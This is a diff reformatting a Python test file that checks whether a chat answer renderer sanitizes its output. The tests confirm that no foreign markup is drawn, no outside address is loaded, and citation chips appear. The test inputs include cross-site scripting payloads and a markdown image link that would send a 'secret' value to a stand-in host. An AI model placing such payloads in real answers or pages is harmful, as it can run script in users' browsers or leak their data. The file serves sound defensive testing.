@@ -12,10 +12,13 @@ CITED = [{"document": 'a"><script>alert(1)</script>.md', "page": 2, "quote": "<b
 TAGS = {"div", "p", "strong", "em", "code", "pre", "ul", "ol", "li", "blockquote", "br", "span", "button"}
 ATTRIBUTES = {"span": {"class"}, "ol": {"start"}, "button": {"class", "data-act", "data-answer", "data-n", "aria-current", "aria-label", "title", "disabled"}}
 HOSTILE = (
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<!-- x --><a href=javascript:alert(1)>x</a>",
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
+    "<!-- x --><a href=javascript:alert(1)>x</a>",
     "![secret](http://203.0.113.7/?q=secret)", "[click](javascript:alert(1))", "[click](http://203.0.113.7 \"title\" )", "<http://203.0.113.7/x>", "http://203.0.113.7/x",
-    "[ref]\n\n[ref]: http://203.0.113.7/x", "[![x](http://203.0.113.7/a)](http://203.0.113.7/b)", "`<b onclick=alert(1)>`", "```\"><img src=x onerror=alert(1)>\n<b>\n```",
-    "| a | b |\n|:--|--:|\n| <i>x</i> | [y](http://203.0.113.7) |", "&lt;script&gt; &#60;b&#62;", "**<u>x</u>**", "\x00<b>", "# <b>x</b>", "<b>\n\ntext\n</b>", "1. <b>\n2. [a](data:text/html,x)",
+    "[ref]\n\n[ref]: http://203.0.113.7/x", "[![x](http://203.0.113.7/a)](http://203.0.113.7/b)", "`<b onclick=alert(1)>`",
+    "```\"><img src=x onerror=alert(1)>\n<b>\n```",
+    "| a | b |\n|:--|--:|\n| <i>x</i> | [y](http://203.0.113.7) |", "&lt;script&gt; &#60;b&#62;", "**<u>x</u>**", "\x00<b>", "# <b>x</b>",
+    "<b>\n\ntext\n</b>", "1. <b>\n2. [a](data:text/html,x)",
 )  # fmt: skip
 
 
@@ -34,7 +37,8 @@ def test_no_address_is_loaded_and_no_markup_of_others_is_drawn(text: str) -> Non
 
 @pytest.mark.parametrize("text", HOSTILE)
 def test_the_turns_of_a_page_hold_it_too(text: str) -> None:
-    record = {"id": "x", "answer": f"{text} [1]", "citations": [*CITED], "refused": False, "model": "local:x", "route": "", "cached": None, "cost_usd": 0.0, "timings_ms": {}, "usage": {},
+    record = {"id": "x", "answer": f"{text} [1]", "citations": [*CITED], "refused": False, "model": "local:x", "route": "", "cached": None, "cost_usd": 0.0,
+              "timings_ms": {}, "usage": {},
               "standalone": text, "config": "c", "index_version": 1, "dropped_citations": 0, "passages": []}  # fmt: skip
     for page in (pending_turn(f"{text} [1]", CITED), finished_turn(record, 0)):
         answer = html.fragment_fromstring(f"<div>{page}</div>").find_class("answer")[0]
@@ -42,8 +46,10 @@ def test_the_turns_of_a_page_hold_it_too(text: str) -> None:
 
 
 @pytest.mark.parametrize("text", [
-    "a ` b [1] c ` d [2]", "```\nopen [1]\nlines [2]", "*a [1] b* [2]", "**a [1]** **b [2]", "[a [1] b](http://x.y) [2]", "| a [1] | b |\n|---|---|\n| c | d [2] |", "- a [1]\n- b\n  [2]",
-    "~~~\nx\n~~~\n[1][2]", "a [1](http://x.y) b [2]", "![a [1]](b) [1] [2]",
+    "a ` b [1] c ` d [2]", "```\nopen [1]\nlines [2]", "*a [1] b* [2]", "**a [1]** **b [2]", "[a [1] b](http://x.y) [2]",
+    "| a [1] | b |\n|---|---|\n| c | d [2] |", "- a [1]\n- b\n  [2]",
+    "~~~\nx\n~~~\n[1][2]", "a [1](http://x.y) b [2]",
+    "![a [1]](b) [1] [2]",
 ])  # fmt: skip
 def test_every_citation_has_its_chip(text: str) -> None:
     assert {chip.get("data-n") for chip in drawn(text).find_class("chip")} == {"1", "2"}
